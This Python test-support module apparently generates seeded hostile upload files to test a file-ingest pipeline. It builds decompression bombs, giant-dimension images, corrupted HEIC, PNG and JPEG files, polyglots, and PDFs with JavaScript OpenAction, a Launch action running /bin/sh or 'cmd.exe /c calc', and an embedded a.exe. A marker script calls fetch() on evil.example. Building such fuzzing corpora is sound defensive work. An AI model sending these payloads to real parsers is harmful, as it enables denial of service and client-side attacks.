"""Hostile files, made from good ones by a seed: what a stranger may send on purpose or by accident.

Each carries :data:`MARK` where it can: it must be found in nothing that is stored.
"""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from io import BytesIO

from PIL import Image, ImageDraw

from tests.support.papers import certificate, encoded, objects, pdf, stream

MARK = b"<script>fetch('//evil.example/MARK-7f3a')</script>"
Maker = Callable[[random.Random], bytes]


@cache
def zeros(size: int) -> bytes:
    """So many zero bytes, deflated to a thousandth."""
    return zlib.compress(bytes(size), 9)


@cache
def good() -> dict[str, bytes]:
    """A good small file of every kind, with the mark in its notes."""
    picture = certificate(420).resize((296, 420))
    ImageDraw.Draw(picture).line([0, 0, 296, 420], fill="blue", width=3)
    exif = Image.Exif()
    exif[0x0112], exif[0x010E] = 6, MARK.decode()
    notes = exif.tobytes()
    info = {"JPEG": {"exif": notes, "comment": MARK, "icc_profile": MARK}, "PNG": {"exif": notes, "icc_profile": MARK}}
    return {
        "jpeg": encoded(picture, quality=80, **info["JPEG"]),
        "progressive": encoded(picture, progressive=True, **info["JPEG"]),
        "png": encoded(picture, "PNG", **info["PNG"]),
        "palette": encoded(picture.quantize(16), "PNG", transparency=3),
        "webp": encoded(picture, "WEBP", exif=notes, icc_profile=MARK),
        "animated": encoded(picture, "WEBP", save_all=True, append_images=[picture.rotate(9)] * 5, exif=notes),
        "heic": encoded(picture, "HEIF", exif=notes, quality=60),
        "pdf": pdf(2, picture=picture) + b"%" + MARK,
    }


# ------------------------------------------------------------------------------------------ any file


def truncated(dice: random.Random) -> bytes:
    data = dice.choice(list(good().values()))
    return data[: dice.randrange(len(data))]


def flipped(dice: random.Random) -> bytes:
    data = bytearray(dice.choice(list(good().values())))
    for _n in range(dice.choice((1, 4, 40))):
        data[dice.randrange(len(data))] ^= 1 << dice.randrange(8)
    return bytes(data)


def head_flipped(dice: random.Random) -> bytes:
    """Damage where a file says what it is: every length and size stands there."""
    data = bytearray(dice.choice(list(good().values())))
    for _n in range(dice.choice((1, 3, 9))):
        data[dice.randrange(min(len(data), 600))] = dice.choice((0, 1, 0x7F, 0x80, 0xFF, dice.randrange(256)))
    return bytes(data)


def spliced(dice: random.Random) -> bytes:
    """The head of one file, the rest of another."""
    one, other = (dice.choice(list(good().values())) for _n in range(2))
    at = dice.randrange(4, 400)
    return one[:at] + other[dice.randrange(4, 400) :]


def repeated(dice: random.Random) -> bytes:
    data = dice.choice(list(good().values()))
    at, size = dice.randrange(len(data)), dice.randrange(1, 2000)
    return data[: at + size] + data[at : at + size] * dice.randrange(1, 200) + data[at + size :]


def wrong_name(dice: random.Random) -> bytes:
    """What calls itself a picture by its name only."""
    kind = dice.randrange(6)
    if kind == 0:
        return b"<svg xmlns='http://www.w3.org/2000/svg'>" + MARK + b"</svg>"
    if kind == 1:
        return encoded(Image.new("RGB", (9, 9)), dice.choice(("GIF", "BMP", "TIFF", "ICO", "TGA", "PPM")))
    if kind == 2:
        return b"MZ" + dice.randbytes(500)
    if kind == 3:
        return archive(dice)
    if kind == 4:
        return b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(" + MARK + b") run\n"
    return b"<html>" + MARK


def archive(dice: random.Random) -> bytes:
    """A ZIP, sometimes one that unpacks to a thousand times its size, nested."""
    inner = BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("a.html", MARK)
        packed.writestr("bomb", bytes(dice.choice((100, 2_000_000))))
    outer = BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as packed:
        for n in range(3):
            packed.writestr(f"{n}.zip", inner.getvalue())
    return outer.getvalue()


def polyglot(dice: random.Random) -> bytes:
    """Two kinds in one file, either in front."""
    files = good()
    kind = dice.randrange(6)
    if kind == 0:
        return files["jpeg"] + archive(dice)
    if kind == 1:
        return b"GIF89a/*" + dice.randbytes(20) + b"*/=1;" + MARK
    if kind == 2:
        return files["pdf"] + files["jpeg"]
    if kind == 3:
        return files["jpeg"] + files["pdf"]
    if kind == 4:
        return files["png"] + MARK + archive(dice)
    return files["webp"] + MARK + files["heic"]


# ------------------------------------------------------------------------------------------ pictures


def chunk(kind: bytes, body: bytes) -> bytes:
    """A PNG chunk with its right sum."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, *extra: bytes, pixels: bytes = b"", depth: int = 8, colour: int = 2) -> bytes:
    """A PNG that claims to be so large, whatever is in it."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    rest = chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + rest


def giant(dice: random.Random) -> bytes:
    """50,000 × 50,000 pixels in a few bytes, of every kind."""
    side = dice.choice((7072, 20_000, 50_000, 65_535, 2**31 - 1))
    small = min(side, 65_535)
    kind = dice.randrange(5)
    if kind == 0:
        return png(side, side)
    if kind == 1:
        data = bytearray(good()["jpeg"])
        at = data.index(b"\xff\xc0")
        data[at + 5 : at + 9] = struct.pack(">HH", small, small)
        return bytes(data)
    if kind == 2:
        frame = b"\x30\x01\x00\x9d\x01\x2a" + struct.pack("<HH", 16383, 16383) + bytes(40)
        body = b"WEBPVP8 " + struct.pack("<I", len(frame)) + frame
        return b"RIFF" + struct.pack("<I", len(body)) + body
    if kind == 3:
        data = bytearray(good()["heic"])
        at = data.index(b"ispe")
        data[at + 8 : at + 16] = struct.pack(">II", side, side)
        return bytes(data)
    return png(dice.choice((1, 49_999_999)), 1, pixels=bytes(200))


def chunk_bomb(dice: random.Random) -> bytes:
    """Notes in a PNG that unpack to 200 MB."""
    bomb = zeros(dice.choice((2_000_000, 200_000_000)))
    kind = dice.randrange(4)
    extra = (
        chunk(b"zTXt", b"Comment\0\0" + bomb),
        chunk(b"iCCP", b"x\0\0" + bomb),
        chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + bomb),
        b"".join(chunk(b"tEXt", b"k%d\0" % n + MARK * 20) for n in range(2000)),
    )[kind]
    return png(8, 8, extra, pixels=(b"\0" + bytes(24)) * 8)


def pixel_bomb(dice: random.Random) -> bytes:
    """Right up to what is taken: large and empty; or unpacking to more than it claims."""
    if dice.random() < 0.7:
        return png(64, 64, pixels=bytes(dice.choice((10_000, 30_000_000))))
    return png(7000, 7000, pixels=(b"\0" + bytes(875)) * 7000, depth=1, colour=0)


def scans(dice: random.Random) -> bytes:
    """A progressive JPEG whose last scan comes a thousand times."""
    data = good()["progressive"]
    at = data.rindex(b"\xff\xda")
    return data[:-2] + data[at:-2] * dice.choice((10, 1000)) + b"\xff\xd9"


def segments(dice: random.Random) -> bytes:
    """JPEG segments of every application, with lengths that may lie."""
    data = good()["jpeg"]
    made, lies = b"", dice.random() < 0.3
    for _n in range(dice.randrange(1, 300)):
        body = MARK + dice.randbytes(dice.randrange(50))
        length = dice.randrange(65536) if lies and dice.random() < 0.1 else len(body) + 2
        made += bytes([0xFF, dice.choice((0xE0, 0xE1, 0xE2, 0xED, 0xEE, 0xFE))]) + struct.pack(">H", length) + body
    return data[:2] + made + data[2:]


def boxes(dice: random.Random) -> bytes:
    """A HEIC whose boxes claim absurd sizes, places and counts."""
    data = bytearray(good()["heic"])
    name = dice.choice(
        (b"meta", b"iloc", b"iinf", b"iprp", b"ipco", b"hvcC", b"ipma", b"mdat", b"pitm", b"ispe", b"infe")
    )
    at = data.find(name)
    absurd = dice.choice((0, 1, 7, 0x7FFF_FFFF, 0xFFFF_FFFF, 0x8000_0000, dice.randrange(2**32)))
    place = at - 4 if dice.random() < 0.4 else at + 4 + dice.randrange(24)
    data[place : place + 4] = struct.pack(">I", absurd)
    return bytes(data)


def grid(dice: random.Random) -> bytes:
    """A HEIC made of one item nested, or many."""
    data = good()["heic"]
    at = data.index(b"iref") if b"iref" in data else data.index(b"iprp") - 4
    refs = struct.pack(">I4sHHH", 14, b"dimg", 1, 1, 1) * dice.randrange(1, 500)
    return data[:at] + struct.pack(">I4sI", 12 + len(refs), b"iref", 0) + refs + data[at:]


# ------------------------------------------------------------------------------------------ PDF

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R %s>>"
DRAW = b"0 0 1 rg 20 20 100 100 re f"


def paper(page: bytes = PAGE % b"", content: bytes = stream(DRAW), root: bytes = b"", *more: bytes) -> bytes:
    """A PDF of one page (objects 1 to 4: catalogue, pages, page, content; *more* from 5 on)."""
    return objects(
        b"<</Type/Catalog/Pages 2 0 R %s>>" % root, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, content, *more
    )


def active(dice: random.Random) -> bytes:
    """JavaScript, launch and address actions, attached files, forms with scripts."""
    script = b"<</S/JavaScript/JS(app.alert\\(1\\);%s)>>" % MARK.replace(b"(", b"\\(").replace(b")", b"\\)")
    launch = b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>"
    kind = dice.randrange(5)
    if kind == 0:
        return paper(PAGE % b"", stream(DRAW), b"/OpenAction 5 0 R", script)
    if kind == 1:
        return paper(PAGE % b"/AA<</O 5 0 R>>", stream(DRAW), b"/OpenAction 5 0 R", launch)
    if kind == 2:
        names = b"/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>/JavaScript<</Names[(x) 7 0 R]>>>>"
        spec = b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>"
        return paper(PAGE % b"", stream(DRAW), names, spec, stream(MARK, b"/Type/EmbeddedFile"), script)
    if kind == 3:
        field = (
            b"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[20 20 90 40]/V(x)/AA<</K 6 0 R/F 6 0 R/V 6 0 R/C 6 0 R>>>>"
        )
        page = PAGE % b"/Annots[5 0 R]"
        return paper(page, stream(DRAW), b"/AcroForm<</Fields[5 0 R]/XFA 7 0 R>>", field, script, stream(MARK))
    link = b"<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<</S/URI/URI(http://evil.example/MARK-7f3a)>>>>"
    return paper(PAGE % b"/Annots[5 0 R]", stream(DRAW), b"", link)


def tree(dice: random.Random) -> bytes:
    """Page trees that go round, or deep, or promise a million pages."""
    kind = dice.randrange(4)
    if kind == 0:
        return objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>")
    if kind == 1:
        deep = dice.choice((50, 3000))
        chain = [b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (n + 3, n + 1) for n in range(deep)]
        return objects(b"<</Type/Catalog/Pages 2 0 R>>", *chain, PAGE % b"")
    if kind == 2:
        return objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", PAGE % b"")
    return objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R 3 0 R]/Count -5>>", b"3 0 R")


def page_box(dice: random.Random) -> bytes:
    """Pages as large as a town, as thin as a hair, or no size at all."""
    box = dice.choice(
        (b"0 0 1000000 1000000", b"0 0 14401 10", b"0 0 0 0", b"0 0 1e38 1e38", b"0 0 -5 -5", b"0 0 0.001 200", b"9 9")
    )
    unit = b"/UserUnit %d" % dice.choice((1, 1000, 75_000))
    return paper(b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R %s>>" % (box, unit))


def deflate_bomb(dice: random.Random) -> bytes:
    """A page's content that unpacks to 100 MB, once or twice over."""
    data = zeros(dice.choice((5_000_000, 100_000_000)))
    if dice.random() < 0.5:
        return paper(PAGE % b"", stream(data, b"/Filter/FlateDecode"))
    return paper(PAGE % b"", stream(zlib.compress(data, 9), b"/Filter[/FlateDecode/FlateDecode]"))


def painting_bomb(dice: random.Random) -> bytes:
    """Forms that paint each other, pictures that claim to be giants, patterns without end."""
    kind = dice.randrange(3)
    if kind == 0:
        deep = dice.choice((8, 30))
        forms = [
            stream(
                b"/X Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<</XObject<</X %d 0 R>>>>" % n
            )
            for n in range(6, 6 + deep)
        ]
        last = stream(DRAW, b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]")
        page = PAGE % b"/Resources<</XObject<</X 5 0 R>>>>"
        return paper(page, stream(b"/X Do"), b"", *forms, last)
    if kind == 1:
        side = dice.choice((5000, 60_000, 2**31 - 1))
        keys = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceRGB/BitsPerComponent 8" % (side, side)
        page = PAGE % b"/Resources<</XObject<</X 5 0 R>>>>"
        picture = stream(zlib.compress(bytes(100_000)), keys + b"/Filter/FlateDecode")
        return paper(page, stream(b"200 0 0 200 0 0 cm /X Do"), b"", picture)
    page = PAGE % b"/Resources<</Pattern<</P 5 0 R>>>>"
    keys = b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.0001/YStep 0.0001/Resources<<>>"
    return paper(page, stream(b"/Pattern cs /P scn 0 0 200 200 re f"), b"", stream(b"0 0 1 1 re f", keys))


def locked(dice: random.Random) -> bytes:
    """A PDF that wants a password."""
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    out = BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption("secret", strength=dice.choice((40, 128))))
    canvas.drawString(72, 720, "locked")
    canvas.save()
    return out.getvalue()


CHEAP: tuple[Maker, ...] = (
    truncated, flipped, head_flipped, spliced, repeated, wrong_name, polyglot, giant, segments, boxes, grid, active,
    tree, page_box,
)  # fmt: skip
DEAR: tuple[Maker, ...] = (chunk_bomb, pixel_bomb, scans, deflate_bomb, painting_bomb, locked)  # seconds of work each
MAKERS = CHEAP * 3 + DEAR


def files(seed: int, count: int) -> Iterator[tuple[str, bytes]]:
    """So many hostile files, each with the name of what is wrong with it; the same for the same seed."""
    for n in range(count):
        make = MAKERS[n % len(MAKERS)]
        yield make.__name__, make(random.Random(f"{seed}/{n}"))
